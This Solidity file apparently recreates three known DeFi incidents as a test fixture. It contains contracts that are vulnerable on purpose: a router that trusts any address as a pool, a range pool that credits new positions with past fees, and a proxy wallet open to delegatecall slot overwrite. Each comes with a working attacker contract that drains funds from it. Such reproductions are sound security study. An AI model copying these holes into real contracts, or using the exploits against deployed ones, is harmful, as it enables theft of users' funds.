// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

import {IToken} from "./Markets.sol";
import {IRange} from "./Ranges.sol";

interface IPosing {
    function swap(address to, uint256 amount, bytes calldata data) external;
}

/// Swaps for its users, who approve it, in any pool they name. Its hole: it takes anybody for a pool (SushiSwap, 2023).
contract PoolRouter {
    address private asked = address(1);

    function swap(IPosing pool, IToken token, uint256 amount) external {
        asked = address(pool);
        pool.swap(msg.sender, amount, abi.encode(token, msg.sender));
        require(asked == address(1), "never paid");
    }

    function pay(uint256 amount, bytes calldata data) external {
        require(msg.sender == asked, "not asked");
        asked = address(1);
        (IToken token, address from) = abi.decode(data, (IToken, address));
        require(token.transferFrom(from, msg.sender, amount));
    }
}

/// Trades one coin for another at par, paid by whoever asks for it.
contract ParPool {
    IToken private immutable other;

    constructor(IToken other_) {
        other = other_;
    }

    function swap(address to, uint256 amount, bytes calldata data) external {
        require(other.transfer(to, amount));
        PoolRouter(msg.sender).pay(amount, data);
    }
}

/// Poses as a pool, and names others to be charged.
contract PoolImpostor {
    IToken private token;
    address private owner;

    function own_pose(PoolRouter router, IToken token_, address[] calldata owners) external {
        token = token_;
        for (uint256 i = 0; i < owners.length; i++) {
            owner = owners[i];
            router.swap(IPosing(address(this)), token, 1);
        }
        token.transfer(tx.origin, token.balanceOf(address(this)));
    }

    function swap(address, uint256, bytes calldata) external {
        PoolRouter(msg.sender).pay(token.balanceOf(owner), abi.encode(token, owner));
    }
}

/// A range pool at par with Uniswap V3's calls and events. Its hole: a new position is owed the fees of all times (Popsicle, 2021).
contract LeakyRange {
    struct Place {
        uint256 liquidity;
        uint256 owed;
    }

    IToken public immutable token0;
    IToken public immutable token1;
    uint128 public liquidity;
    uint256 public feeGrowthGlobal0X128;
    uint256 public feeGrowthGlobal1X128;
    mapping(bytes32 => Place) private places;

    event Mint(address sender, address indexed owner, int24 indexed low, int24 indexed high, uint128 amount, uint256 first, uint256 second);
    event Burn(address indexed owner, int24 indexed low, int24 indexed high, uint128 amount, uint256 first, uint256 second);
    event Collect(address indexed owner, address to, int24 indexed low, int24 indexed high, uint128 first, uint128 second);
    event Swap(address indexed sender, address indexed to, int256 first, int256 second, uint160 root, uint128 liquidity, int24 tick);

    constructor(IToken first, IToken second) {
        (token0, token1) = (first, second);
    }

    function slot0() external pure returns (uint160, int24, uint16, uint16, uint16, uint8, bool) {
        return (2 ** 96, 0, 0, 1, 1, 0, true);
    }

    function mint(address owner, int24 low, int24 high, uint128 amount, bytes calldata data) external returns (uint256, uint256) {
        places[keccak256(abi.encode(owner, low, high))].liquidity += amount;
        liquidity += amount;
        emit Mint(msg.sender, owner, low, high, amount, amount, amount);
        ILeakyPayer(msg.sender).uniswapV3MintCallback(amount, amount, data);
        return (amount, amount);
    }

    function swap(address to, bool zeroForOne, int256 amount, uint160, bytes calldata data) external returns (int256, int256) {
        int256 out = (amount * 997) / 1000;
        uint256 grown = (uint256(amount - out) << 128) / liquidity;
        if (zeroForOne) feeGrowthGlobal0X128 += grown;
        else feeGrowthGlobal1X128 += grown;
        (zeroForOne ? token1 : token0).transfer(to, uint256(out));
        (int256 first, int256 second) = zeroForOne ? (amount, -out) : (-out, amount);
        ILeakyPayer(msg.sender).uniswapV3SwapCallback(first, second, data);
        emit Swap(msg.sender, to, first, second, 2 ** 96, liquidity, 0);
        return (first, second);
    }

    function burn(int24 low, int24 high, uint128 amount) external returns (uint256, uint256) {
        Place storage place = places[keccak256(abi.encode(msg.sender, low, high))];
        uint256 fees = (place.liquidity * feeGrowthGlobal0X128) >> 128;
        place.liquidity -= amount;
        place.owed += amount + fees;
        liquidity -= amount;
        emit Burn(msg.sender, low, high, amount, amount, amount);
        return (amount, amount);
    }

    function collect(address to, int24 low, int24 high, uint128, uint128) external returns (uint128, uint128) {
        Place storage place = places[keccak256(abi.encode(msg.sender, low, high))];
        uint128 owed = uint128(place.owed);
        place.owed = 0;
        token0.transfer(to, owed);
        token1.transfer(to, owed);
        emit Collect(msg.sender, to, low, high, owed, owed);
        return (owed, owed);
    }
}

interface ILeakyPayer {
    function uniswapV3MintCallback(uint256, uint256, bytes calldata) external;
    function uniswapV3SwapCallback(int256, int256, bytes calldata) external;
}

/// Provides for the length of a transaction, and takes more than it brought.
contract RangeThief {
    function own_visit(IRange pool, uint128 amount) external {
        pool.mint(address(this), -60, 60, amount, "");
        pool.burn(-60, 60, amount);
        pool.collect(tx.origin, -60, 60, type(uint128).max, type(uint128).max);
    }

    function uniswapV3MintCallback(uint256 first, uint256 second, bytes calldata) external {
        IRange(msg.sender).token0().transfer(msg.sender, first);
        IRange(msg.sender).token1().transfer(msg.sender, second);
    }
}

/// A wallet behind a proxy that keeps its code in the first slot, as Safes do.
contract SlotProxy {
    address private code;

    constructor(address code_) {
        code = code_;
    }

    fallback() external payable {
        address to = code;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// What that wallet does: whatever its key signs, in its own storage too.
contract SlotWallet {
    address private code;
    address private key;

    function own(address key_) external {
        require(key == address(0), "owned");
        key = key_;
    }

    function execute(address to, bytes calldata data, bool borrowed) external {
        require(msg.sender == key, "key");
        (bool ok, ) = borrowed ? to.delegatecall(data) : to.call(data);
        require(ok, "failed");
    }
}

/// Writes another address where the wallet keeps its code (Bybit, 2025).
contract CodeSwap {
    address private code;

    function own_swap(address next) external {
        code = next;
    }
}
